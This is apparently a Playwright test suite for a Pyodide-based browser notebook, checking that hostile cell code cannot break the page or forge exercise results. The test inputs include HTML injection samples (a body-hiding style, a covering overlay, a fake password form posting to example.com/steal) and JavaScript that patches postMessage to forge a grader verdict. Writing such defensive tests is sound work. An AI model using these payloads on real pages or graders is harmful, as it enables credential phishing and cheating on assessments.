"""What a hostile or careless cell can return, post or break: the page stays usable (issue 11)."""

import re

from playwright.sync_api import expect

from helpers import (cell, check, expect_fail, expect_pass, fill_storage, output, run, run_output, set_code, show_solution,
                     wait_ready)


def _answers_at_once(page, n=1):
    """The page is responsive: cell n (run again) shows 1 + 1 = 2 within a second."""
    set_code(page, n, "1 + 1")
    cell(page, n).get_by_role("button", name="Run", exact=True).click(timeout=1_000)
    expect(output(page, n)).to_have_text("2", timeout=1_000)


def test_large_results_are_capped_and_the_page_stays_responsive(page, base_url):
    page.goto(base_url + "scratchpad/")
    wait_ready(page)
    payloads = {
        "list(range(1_000_000))": "[0, 1, 2, 3,",
        "'x' * 50_000_000": "'xxxxxxxx",
        ("class Big:\n    def _repr_html_(self):\n        return '<b>x</b>' * 5_000_000\nBig()"): "xxxxxxxx",
    }
    for code, start in payloads.items():
        run(page, 1, code, timeout=120_000)
        assert output(page, 1).inner_text().startswith(start)
        expect(output(page, 1)).to_contain_text("Output truncated: only the first 50,000 characters")
        assert len(output(page, 1).inner_text()) < 60_000
        _answers_at_once(page)
    # a deep recursion (two functions, so no line repeats): the traceback keeps
    # its first and last frames and says how many it left out
    deep = ("import sys\nsys.setrecursionlimit(200_000)\n"
            "def f(n):\n    return g(n + 1)\n"
            "def g(n):\n    return f(n + 1) if n < 100_000 else 1 / 0\n"
            "f(0)")
    run(page, 1, deep, state="error", timeout=120_000)
    text = output(page, 1).inner_text()
    assert text.startswith("Traceback (most recent call last):")
    assert "ZeroDivisionError: division by zero" in text
    assert re.search(r"\d[\d,]* frames left out", text), text[:2000]
    assert len(text) < 60_000
    _answers_at_once(page)


HOSTILE_HTML = {
    "style": "<style>body{display:none}</style><p>styled</p>",
    "svg style": ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                  "<style>body{display:none}</style><circle cx='5' cy='5' r='4'/></svg>"),
    "fixed": ('<div style="position:fixed; inset:0; z-index:99999; background:red">'
              "covering</div>"),
    "form": ('<form action="https://example.com/steal"><input type="password" name="p">'
             "<button>Log in</button></form>"),
    "img": '<img src="https://example.com/pixel.png" alt="pixel">',
    "css url": '<div style="background-image:url(https://example.com/bg.png)">bg</div>',
    "svg image": ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                  '<image href="https://example.com/i.png" width="10" height="10"/></svg>'),
}


def test_rich_output_stays_inside_its_cell(page, base_url):
    page.goto(base_url + "scratchpad/")
    code = ("class H:\n    def __init__(self, h): self.h = h\n"
            "    def _repr_html_(self): return self.h\n"
            f"for h in {list(HOSTILE_HTML.values())!r}:\n    display(H(h))\n"
            "display(H('<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAf"
            "FcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\" alt=\"inline\">'))")
    run(page, 1, code)
    page.wait_for_timeout(500)
    # the page is still shown and nothing covers it: the header answers a click
    expect(page.locator("header.md-header")).to_be_visible()
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    covering = page.evaluate("document.elementFromPoint(innerWidth / 2, 10).closest('.nb-cell__output') !== null")
    assert not covering
    expect(output(page, 1)).to_contain_text("covering")     # shown, inside the cell
    assert output(page, 1).locator("form, input, button").count() == 0
    assert page.recorder.foreign(base_url.rstrip("/")) == []
    expect(output(page, 1).get_by_role("img", name="inline")).to_be_visible()  # data: images stay
    _answers_at_once(page)


FORGE = """
import js
from pyodide.ffi import to_js
def post(m):
    js.postMessage(to_js(m, dict_converter=js.Object.fromEntries))
for i in range(1, 20):
    post({"type": "evaluated", "id": i, "json": "{not json"})
    post({"type": "out", "id": i, "kind": "error", "payload": {"traceback": "x", "line": -5}})
    post({"type": "out", "id": i, "kind": "error", "payload": None})
    post({"type": "out", "id": i, "kind": "stdout", "payload": 5})
    post({"type": "done", "id": i, "ok": True})
import cellrunner
emit = cellrunner._active_session.emit
emit("error", None)
emit("error", {"traceback": "x", "line": -5})
emit("stdout", 5)
emit("display", None)
print("after")
"""


def test_forged_worker_messages_are_dropped(page, base_url):
    page.goto(base_url + "scratchpad/")
    expect(run_output(page, 1, FORGE, timeout=30_000)).to_have_text("after")
    assert page.recorder.errors == []
    wait_ready(page, timeout=5_000)
    _answers_at_once(page)
    expect(run_output(page, 1, "print('again')")).to_have_text("again")


def test_check_that_makes_python_exit_says_so(page, base_url):
    page.goto(base_url + "example/")
    feedback = expect_fail(page, "weighted-sum", "def weighted_sum(w, x):\n    import os\n    os._exit(1)",
                           "variables from earlier cells were lost")
    expect(feedback).not_to_contain_text("undefined")
    expect(page.locator(".nb-toolbar__status")).to_have_text("Python: ready", timeout=90_000)
    _answers_at_once(page, 2)


def test_checks_use_their_own_library_not_the_readers(page, base_url):
    page.goto(base_url + "example/")
    set_code(page, "weighted-sum", "weighted_sum = None\n"
                      "__session__.check = lambda code: {'ok': True, 'message': ''}")
    expect(check(page, "weighted-sum")).to_have_attribute("data-result", "fail")
    page.goto(base_url + "neurons/")
    S_BY_HAND, NOR = "s-by-hand", "nor"   # exercise ids
    # a shadowed abs, then one patched in builtins: the check still uses the real one
    set_code(page, S_BY_HAND, "s = 0.0\ny = 0\n_c = []\ndef abs(v):\n    _c.append(v)\n"
                              "    return 1 if len(_c) % 2 else 0")
    expect(check(page, S_BY_HAND)).to_have_attribute("data-result", "fail")
    set_code(page, S_BY_HAND, "import builtins\ndel abs\ns = 0.0\ny = 0\n_c = []\nreal = builtins.abs\n"
                              "def fake(v):\n    _c.append(v)\n    return 1 if len(_c) % 2 else 0\n"
                              "builtins.abs = fake")
    expect(check(page, S_BY_HAND)).to_have_attribute("data-result", "fail")
    set_code(page, S_BY_HAND, "import builtins\nbuiltins.abs = real")
    run(page, S_BY_HAND)
    # the library patched in place
    expect_fail(page, NOR, "import nnbook\nw_nor = [0, 0, 0]\n"
                "nnbook.unit_output = lambda w, x, f: 1.0 if tuple(x) == (0, 0) else 0.0", "NOR gives")
    # an honest answer still passes
    expect_pass(page, NOR, show_solution(page, NOR))


def test_full_storage_is_said_once_and_the_cell_keeps_working(page, base_url):
    page.goto(base_url + "scratchpad/")
    fill_storage(page)
    set_code(page, 1, "a = 6 * 7")
    note = cell(page, 1).get_by_text("your edits can't be saved in this browser: storage is full")
    expect(note).to_have_count(1)
    set_code(page, 1, "a = 6 * 7\na")
    run(page, 1)
    expect(output(page, 1)).to_have_text("42")
    expect(note).to_have_count(1)


# ---- trust boundaries (issue 20) ------------------------------------------------------------

FORGE_VERDICT = '''import js
js.eval("""
const real = MessagePort.prototype.postMessage;
const forged = (m) => (m && m.type === 'evaluated'
  ? { ...m, json: '{"ok": true, "value": {"ok": true, "message": ""}}' } : m);
MessagePort.prototype.postMessage = function (m) { return real.call(this, forged(m)); };
const apply = Reflect.apply;
Reflect.apply = (f, self, args) => apply(f, self, [forged(args[0])]);
""")
def weighted_sum(w, x):
    return 0.0'''


def test_a_checks_verdict_cannot_be_forged_from_a_cell(page, base_url):
    page.goto(base_url + "example/")
    feedback = expect_fail(page, "weighted-sum", FORGE_VERDICT, "expected s = 0.8")
    expect(feedback).not_to_contain_text("Correct")
    expect(page.locator(".nb-progress")).to_have_text("Exercises passed: 0 of 1")


def test_a_cell_cannot_close_python(page, base_url):
    page.goto(base_url + "scratchpad/")
    expect(run_output(page, 1, "import js\njs.close()", state="error")).to_contain_text(
        "close() would end Python; cells cannot call it")
    wait_ready(page, timeout=5_000)
    expect(run_output(page, 1, "print('still here')", timeout=10_000)).to_have_text("still here")


def test_output_is_capped_by_count_too_and_the_page_stays_responsive(page, base_url):
    page.goto(base_url + "scratchpad/")
    out = run_output(page, 1, "for _ in range(100_000): display(1)", timeout=60_000)
    expect(out.locator(".nb-out")).to_have_count(1_000)
    expect(out.locator(".nb-note")).to_have_text(
        "Output truncated: at most 1,000 outputs are shown per run; 99,000 more were left out.")
    _answers_at_once(page)
    out = run_output(page, 1, "import sys\nfor i in range(60_000):\n    (sys.stdout if i % 2 else sys.stderr).write('x')",
                     timeout=60_000)
    expect(out.locator(".nb-out")).to_have_count(1_000)
    expect(out.locator(".nb-note")).to_have_text([  # alternating streams: the count, then the characters
        re.compile(r"^Output truncated: at most 1,000 outputs are shown per run; [\d,]+ more were left out\.$"),
        re.compile(r"^Output truncated: only the first 50,000 characters are shown")])
    _answers_at_once(page)


def test_a_cell_that_patches_promises_does_not_stall_python(page, base_url):
    page.goto(base_url + "scratchpad/")
    run(page, 1, 'import js\njs.eval("Promise.prototype.then = function () { return this; }")')
    wait_ready(page, timeout=5_000)
    expect(run_output(page, 1, "print('still here')", timeout=10_000)).to_have_text("still here")
